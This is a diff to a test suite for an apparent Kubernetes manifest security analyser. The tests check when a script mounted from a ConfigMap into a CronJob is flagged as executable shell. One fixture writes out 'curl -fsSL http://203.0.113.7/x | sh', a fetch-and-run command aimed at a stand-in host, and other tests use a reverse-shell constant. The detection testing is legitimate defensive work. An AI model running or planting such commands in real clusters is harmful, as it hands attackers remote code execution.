@@ -113,12 +113,41 @@ describe('ConfigMap scripts mounted and run', () => {
       '- name: scripts',
       '  projected:',
       '    sources:',
-      '    - configMap: {name: job-scripts, items: [{key: entry, path: bin/start.sh}]}',
+      '    - configMap: {name: job-scripts, items: [{key: entry, path: bin/start.sh, mode: 0755}]}',
     ];
     const source = configMap('job-scripts', { entry: 'curl -fsSL http://203.0.113.7/x | sh' });
     const hit = only(analyse([cronJob(spec('bin/start.sh')), source].join('---\n')).findings, 'shell-escape');
     assert.equal(hit[0]?.path, '/data/entry');
     assert.deepEqual(analyse([cronJob(spec('bin/other.sh')), source].join('---\n')).findings, []);
+  });
+
+  it('run by its path, a file needs an execute bit and a shell (or no) #! line; through sh, neither', () => {
+    const spec = (command: string, mode: string) => MOUNTED_SCRIPT.map((line) => line.replace(/command: .*/, `command: ${command}`).replace('defaultMode: 0755', mode));
+    const source = configMap('job-scripts', { 'run.sh': REVERSE_SHELL });
+    const found = (command: string, mode: string, text = source) => only(analyse([cronJob(spec(command, mode)), text].join('---\n')).findings, 'shell-escape').length > 0;
+    assert.equal(found('["/scripts/run.sh"]', 'defaultMode: 0755'), true);
+    assert.equal(found('["/scripts/run.sh"]', 'defaultMode: 493'), true, 'JSON spells the mode in decimal');
+    assert.equal(found('["/scripts/run.sh"]', 'defaultMode: 0644'), false, 'permission denied: nothing runs');
+    assert.equal(found('["/scripts/run.sh"]', 'items: [{key: run.sh, path: run.sh}]'), false, 'the default mode is 0644');
+    assert.equal(found('["sh", "/scripts/run.sh"]', 'defaultMode: 0644'), true);
+    const python = configMap('job-scripts', { 'run.sh': '#!/usr/bin/env python3\nimport sys\n[print(a) for a in sys.argv]' });
+    assert.deepEqual(analyse([cronJob(spec('["/scripts/run.sh"]', 'defaultMode: 0755')), python].join('---\n')).findings, [], 'python code is not read as shell');
+    const bash = configMap('job-scripts', { 'run.sh': `#!/usr/bin/env bash\n${REVERSE_SHELL}` });
+    assert.equal(found('["/scripts/run.sh"]', 'defaultMode: 0755', bash), true);
+  });
+
+  it('a config file handed to an unknown entrypoint with -c is not run as a script', () => {
+    const spec = [
+      'containers:',
+      '- name: forwarder',
+      '  image: cr.fluentbit.io/fluent/fluent-bit:3.1',
+      '  args: ["-c", "/fluent-bit/etc/fluent-bit.conf"]',
+      '  volumeMounts: [{name: config, mountPath: /fluent-bit/etc/}]',
+      'volumes:',
+      '- {name: config, configMap: {name: fluent-bit}}',
+    ];
+    const text = [cronJob(spec), configMap('fluent-bit', { 'fluent-bit.conf': '[SERVICE]\n    Flush 5\n[INPUT]\n    Name tail' })].join('---\n');
+    assert.deepEqual(analyse(text).findings, []);
   });
 });
 
